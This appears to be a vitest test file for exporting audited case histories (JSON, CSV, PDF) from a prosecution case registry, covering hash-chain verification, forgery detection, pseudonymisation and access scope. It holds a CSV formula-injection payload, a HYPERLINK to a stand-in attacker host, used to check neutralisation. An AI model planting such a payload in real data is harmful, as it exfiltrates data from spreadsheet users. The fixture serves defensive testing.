import { createHash, randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { getDb, getPool } from "../db/client";
import type { CurrentUser } from "../auth/session-store";
import { verifyExport } from "../auditing/verify-export";
import { hashEvent, type HashedEvent } from "../audit/event-hash";
import { sha256OfChains } from "../audit/history-format";
import { readPublicKeys } from "../signing/key-store";
import { addNote } from "../cases/add-note";
import { changeProsecutionStatus } from "../cases/change-prosecution-status";
import { TRANSITIONS } from "../prosecution/transitions";
import { makePerson, makeTeam, makeUser } from "../testing/factories";
import { outcome } from "../testing/outcome";
import type { CaseExportRequest } from "../validation/export";
import { StatusChangeInput } from "../validation/prosecution";
import { exportHistory, type ExportPlan, type Selection } from "./export-history";
import { CSV_COLUMNS } from "./csv-line";
import { writeHistoryCsv } from "./write-csv";
import { writeHistoryJson } from "./write-json";
import { writeHistoryPdf } from "./write-pdf";

const HOSTILE = '=HYPERLINK("http://attacker.example/steal","Open")';

let regionId: string;
let otherRegionId: string;
let owner: CurrentUser;
let supervisor: CurrentUser;
let supervisorElsewhere: CurrentUser;
let auditor: CurrentUser;
let caseId: string;
let otherCaseId: string;

beforeAll(async () => {
  await getDb().prosecutionTransition.createMany({
    data: TRANSITIONS.map((t) => ({ fromStatus: t.from, toStatus: t.to, isCorrection: t.isCorrection })),
    skipDuplicates: true,
  });
  const team = await makeTeam();
  ({ owner, supervisor, auditor } = team);
  [regionId, otherRegionId] = [team.region.id, team.otherRegion.id];
  supervisorElsewhere = await makeUser("SUPERVISOR", [otherRegionId]);
  caseId = (await makePerson(regionId, owner.id, "Абдуллаева")).id;
  otherCaseId = (await makePerson(otherRegionId, null, "Қасымова")).id;
  await changeProsecutionStatus(
    owner,
    StatusChangeInput.parse({ caseId, version: 1, status: "PRELIMINARY_CHECK", effectiveDate: "2024-03-01", reason: HOSTILE }),
  );
  await addNote(owner, { caseId, body: "Беседа с матерью; ребёнок ходит в школу" });
  await addNote(owner, { caseId, body: "Second note" });
});

const request = (overrides: Partial<CaseExportRequest> = {}): CaseExportRequest => ({
  format: "json",
  profile: "full",
  reason: "Запрос прокуратуры",
  ...overrides,
});

/** Runs an export to the end and returns what was written, as the route handler would stream it. */
async function exported(
  user: CurrentUser,
  selection: Selection,
  req: CaseExportRequest,
): Promise<{ text: string; bytes: Buffer; plan: ExportPlan }> {
  const chunks: Buffer[] = [];
  let seen: ExportPlan | undefined;
  await exportHistory(user, selection, req, async (plan) => {
    seen = plan;
    const sink = async (chunk: string | Uint8Array) => void chunks.push(Buffer.from(chunk));
    await plan.transmit(sink, async (write) => {
      if (req.format === "json") await writeHistoryJson(plan, write);
      else if (req.format === "csv") await writeHistoryCsv(plan, write);
      else {
        const labels = {
          text: (key: string) => key,
          action: (a: string) => a,
          enumLabel: (_g: string, v: string) => v,
          region: (n: { ru: string }) => n.ru,
          locale: "ru",
        };
        await writeHistoryPdf(plan, write, labels);
      }
    });
  });
  const bytes = Buffer.concat(chunks);
  return { text: bytes.toString("utf8"), bytes, plan: seen! };
}

/** The run's public keys, as an auditor would hold them from /api/signing-keys. */
const keys = () => readPublicKeys();
const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

const chainEvents = (chain: string) => getDb().auditEvent.findMany({ where: { chain }, orderBy: { seq: "asc" } });

describe("case-history export", () => {
  it("holds every event of the case as hashed, verifies offline, and fails to verify with one character changed", async () => {
    const before = await chainEvents(caseId);
    const { text } = await exported(auditor, { caseId }, request());
    const file = JSON.parse(text) as {
      chains: { chain: string; events: { id: string; hash: string }[] }[];
      manifest: { counts: { events: number }; verifiable: boolean };
    };
    expect(file.chains).toHaveLength(1);
    expect(file.chains[0]!.events.map((e) => [e.id, e.hash])).toEqual(before.map((e) => [e.id, e.hash]));
    expect(file.manifest).toMatchObject({ counts: { cases: 1, events: before.length }, verifiable: true });
    expect(verifyExport(text, keys())).toMatchObject({ ok: true, verifiable: true, events: before.length, signature: { status: "valid" } });

    const tampered = text.replace("ребёнок", "рёбенок");
    expect(tampered).not.toBe(text);
    const result = verifyExport(tampered, keys());
    expect(result.ok).toBe(false);
    expect(result.problems.map((p) => p.kind)).toContain("content");
  });

  it("a forgery that changes an event and recomputes every later hash, the head and the manifest's SHA-256 fails the signature check", async () => {
    const { text } = await exported(auditor, { caseId }, request());
    type File = {
      chains: { events: (HashedEvent & { hash: string })[]; head: { lastSeq: number; lastHash: string } }[];
      manifest: { eventsSha256: string };
      signature?: unknown;
    };
    const file = JSON.parse(text) as File;
    const chain = file.chains[0]!;
    let prevHash: string | null = null;
    for (const event of chain.events) {
      if (event.action === "note.added") event.after = { body: "Forged note" };
      event.prevHash = prevHash;
      const { hash: _old, ...hashed } = event;
      event.hash = hashEvent(hashed);
      prevHash = event.hash;
    }
    chain.head.lastHash = prevHash!;
    file.manifest.eventsSha256 = sha256OfChains(file.chains);
    const forged = verifyExport(JSON.stringify(file), keys());
    expect(forged.ok).toBe(true);
    expect(forged.signature).toMatchObject({ status: "invalid" });

    delete file.signature;
    expect(verifyExport(JSON.stringify(file), keys()).signature).toEqual({ status: "missing" });
  });

  it("closes with an event in the system chain holding the SHA-256 and length of exactly the bytes sent", async () => {
    for (const format of ["json", "csv", "pdf"] as const) {
      const { bytes, plan } = await exported(auditor, { caseId }, request({ format }));
      const closing = await getDb().auditEvent.findFirstOrThrow({ where: { chain: "system", entityId: plan.exportId } });
      expect(closing).toMatchObject({
        action: "history.export_completed",
        actorId: auditor.id,
        entityType: "export",
        context: { format, bytes: bytes.length, sha256: sha256(bytes) },
      });
    }
  });

  it("records an aborted stream with what had been sent before the reader went away", async () => {
    const sent: Buffer[] = [];
    let exportId = "";
    const outcomeOf = await outcome(
      exportHistory(auditor, { caseId }, request(), async (plan) => {
        exportId = plan.exportId;
        await plan
          .transmit(
            async (chunk) => {
              // Small exports leave in one chunk: the reader goes away as the first arrives.
              if (sent.length === 0) {
                sent.push(Buffer.from(chunk));
                throw new Error("reader gone");
              }
              sent.push(Buffer.from(chunk));
              sent.push(Buffer.from(chunk));
            },
            (write) => writeHistoryJson(plan, write),
          )
          .catch(() => undefined);
      }),
    );
    expect(outcomeOf).toBe("ok");
    const closing = await getDb().auditEvent.findFirstOrThrow({ where: { chain: "system", entityId: exportId } });
    // The chunk the failed write was handed counts: it may have reached the reader.
    expect(closing.action).toBe("history.export_aborted");
    expect(sent).toHaveLength(1);
    expect((closing.context as { bytes: number; sha256: string }).bytes).toBe(sent[0]!.length);
    expect((closing.context as { sha256: string }).sha256).toBe(sha256(sent[0]!));
  });

  it("ends, and records the abort, when the reader goes away while a long history is still streaming", async () => {
    // Far more events than the connection's buffers hold, so most are still to come when the writing fails.
    // In a region of its own: its made-up hashes must not reach the other tests' verified set exports.
    const elsewhere = await makeTeam();
    const long = await makePerson(elsewhere.region.id, elsewhere.owner.id, "Долгая");
    await getPool().query(
      `INSERT INTO audit_event (id, chain, seq, prev_hash, hash, occurred_at, action, entity_type, context)
       SELECT gen_random_uuid(), $1, n, CASE WHEN n = 1 THEN NULL ELSE 'h' END, 'h', now(), 'note.added', 'note',
              jsonb_build_object('pad', repeat('x', 200))
       FROM generate_series(1, 20000) AS n`,
      [long.id],
    );
    await getPool().query(
      `INSERT INTO audit_chain_head (chain, last_seq, last_hash) VALUES ($1, 20000, 'h')
       ON CONFLICT (chain) DO UPDATE SET last_seq = EXCLUDED.last_seq, last_hash = EXCLUDED.last_hash`,
      [long.id],
    );
    for (const format of ["json", "csv"] as const) {
      let exportId = "";
      await exportHistory(auditor, { caseId: long.id }, request({ format }), async (plan) => {
        exportId = plan.exportId;
        await plan
          .transmit(
            async () => {
              throw new Error("reader gone");
            },
            (write) => (format === "json" ? writeHistoryJson(plan, write) : writeHistoryCsv(plan, write)),
          )
          .catch(() => undefined);
      });
      const closing = await getDb().auditEvent.findFirstOrThrow({ where: { chain: "system", entityId: exportId } });
      expect(closing.action).toBe("history.export_aborted");
    }
  });

  it("is itself an audit event in the case's chain, recording format, profile, filters, counts and reason", async () => {
    const { plan } = await exported(auditor, { caseId }, request({ format: "csv", reason: "Проверка" }));
    const event = await getDb().auditEvent.findFirstOrThrow({
      where: { chain: caseId, action: "history.exported", entityId: plan.exportId },
    });
    expect(event).toMatchObject({
      actorId: auditor.id,
      reason: "Проверка",
      context: { format: "csv", profile: "full", filters: { caseId }, cases: 1, events: plan.counts.events },
    });
  });

  it("writes CSV that a standard parser reads back as the stored events, with the formula cell neutralised", async () => {
    const { text } = await exported(auditor, { caseId }, request({ format: "csv" }));
    expect(text.startsWith("\uFEFF")).toBe(true);
    const rows = parse<Record<(typeof CSV_COLUMNS)[number], string>>(text.slice(1), { columns: true });
    const stored = await chainEvents(caseId);
    const inFile = rows.length;
    expect(rows.map((r) => [Number(r.seq), r.action, r.hash, r.prev_hash || null, r.occurred_at])).toEqual(
      stored.slice(0, inFile).map((e) => [e.seq, e.action, e.hash, e.prevHash, e.occurredAt.toISOString()]),
    );
    const hostile = rows.find((r) => r.action === "prosecution.status_changed")!;
    expect(hostile.reason).toBe(`'${HOSTILE}`);
    expect(JSON.parse(rows.find((r) => r.action === "note.added")!.after)).toEqual({ body: "Беседа с матерью; ребёнок ходит в школу" });
  });

  it("writes a PDF whose text holds the case number and the Cyrillic name", async () => {
    const { bytes } = await exported(auditor, { caseId }, request({ format: "pdf" }));
    expect(bytes.subarray(0, 5).toString()).toBe("%PDF-");
    const { getDocument } = await import("pdfjs-dist/legacy/build/pdf.mjs");
    const pdf = await getDocument({ data: new Uint8Array(bytes), useSystemFonts: false }).promise;
    const page = await pdf.getPage(1);
    const text = (await page.getTextContent()).items.map((item) => ("str" in item ? item.str : "")).join(" ");
    const { caseNumber } = await getDb().person.findUniqueOrThrow({ where: { id: caseId }, select: { caseNumber: true } });
    expect(text).toContain(caseNumber);
    expect(text).toContain("Абдуллаева");
  });

  it("writes a tagged PDF in the reader's language, each event's reason under its own label and dates in the reader's format", async () => {
    const { bytes, plan } = await exported(auditor, { caseId }, request({ format: "pdf" }));
    const { getDocument } = await import("pdfjs-dist/legacy/build/pdf.mjs");
    const pdf = await getDocument({ data: new Uint8Array(bytes), useSystemFonts: false }).promise;
    expect(await pdf.getMarkInfo()).toMatchObject({ Marked: true });
    const page = await pdf.getPage(1);
    const roles = JSON.stringify(await page.getStructTree());
    for (const role of ["H1", "H2", "H3", "P", "Sect"]) expect(roles).toContain(`"role":"${role}"`);
    expect(bytes.toString("latin1")).toContain("/Lang (ru)");
    const text = (await page.getTextContent()).items.map((item) => ("str" in item ? item.str : "")).join("");
    // The labels in this test are the catalog keys: the event's reason is not the export's.
    expect(text).toContain(`eventReason: ${HOSTILE}`);
    expect(text).not.toContain(`pdfReason: ${HOSTILE}`);
    const { birthDate } = await getDb().person.findUniqueOrThrow({ where: { id: caseId }, select: { birthDate: true } });
    const [y, m, d] = birthDate.toISOString().slice(0, 10).split("-");
    expect(text).toContain(`born: ${d}.${m}.${y}`);
    expect(plan.subject).toMatch(/^KZ-/);
  });

  it("names a pseudonymised file without its case number, and a set as a set", async () => {
    expect((await exported(auditor, { caseId }, request({ profile: "pseudonymised" }))).plan.subject).toBe("case");
    expect((await exported(auditor, { filters: {} }, request())).plan.subject).toBe("set");
  });

  it("pseudonymised: no name, case number or note text, and the manifest says it cannot be verified against the chain", async () => {
    const { text } = await exported(auditor, { caseId }, request({ profile: "pseudonymised" }));
    const { caseNumber } = await getDb().person.findUniqueOrThrow({ where: { id: caseId }, select: { caseNumber: true } });
    for (const secret of ["Абдуллаева", caseNumber, "ребёнок", caseId]) expect(text).not.toContain(secret);
    expect(verifyExport(text, keys())).toMatchObject({ ok: true, verifiable: false });
  });

  it("answers a case out of the exporter's scope as absent, recording only the denial", async () => {
    const since = new Date();
    expect(await outcome(exportHistory(supervisorElsewhere, { caseId }, request(), async () => undefined))).toBe("notFound");
    expect(await outcome(exportHistory(owner, { caseId }, request(), async () => undefined))).toBe("notFound");
    const written = await getDb().auditEvent.findMany({ where: { chain: caseId, occurredAt: { gte: since } }, select: { action: true } });
    expect(written.map((e) => e.action)).toEqual(["access.denied", "access.denied"]);
  });

  it("records a refused export of a case id that names no case in no chain of its own", async () => {
    const invented = randomUUID();
    const since = new Date();
    for (const exporter of [owner, auditor])
      expect(await outcome(exportHistory(exporter, { caseId: invented }, request(), async () => undefined))).toBe("notFound");
    expect(await getDb().auditEvent.count({ where: { chain: invented } })).toBe(0);
    expect(await getDb().auditEvent.count({ where: { entityId: invented, occurredAt: { gte: since } } })).toBe(0);
  });

  it("never puts a case the exporter may not see into a set export", async () => {
    const { text } = await exported(supervisor, { filters: {} }, request());
    const chains = (JSON.parse(text) as { chains: { chain: string }[] }).chains.map((c) => c.chain);
    expect(chains).toContain(caseId);
    expect(chains).not.toContain(otherCaseId);
    const outOfScope = await getDb().person.count({ where: { id: { in: chains }, regionId: { notIn: supervisor.regionIds } } });
    expect(outOfScope).toBe(0);
    expect(verifyExport(text, keys()).ok).toBe(true);
  });

  it("holds what its snapshot saw: a note added while the file streams is left for the next export", async () => {
    const chunks: Buffer[] = [];
    let counted = 0;
    await exportHistory(auditor, { caseId }, request(), async (plan) => {
      counted = plan.counts.events;
      // Written and committed by someone else after the snapshot was taken, before any event is read.
      await addNote(owner, { caseId, body: "Written during the export" });
      await plan.transmit(
        async (chunk) => void chunks.push(Buffer.from(chunk)),
        (write) => writeHistoryJson(plan, write),
      );
    });
    const text = Buffer.concat(chunks).toString("utf8");
    const [chain] = (JSON.parse(text) as { chains: { events: unknown[] }[] }).chains;
    expect(chain!.events).toHaveLength(counted);
    expect(text).not.toContain("Written during the export");
    expect(verifyExport(text, keys()).ok).toBe(true);
    expect((await chainEvents(caseId)).length).toBeGreaterThan(counted);
  });

  it("applies the registry's filters to a set export", async () => {
    const { text } = await exported(auditor, { filters: { region: otherRegionId } }, request());
    expect((JSON.parse(text) as { chains: { chain: string }[] }).chains.map((c) => c.chain)).toEqual([otherCaseId]);
  });
});
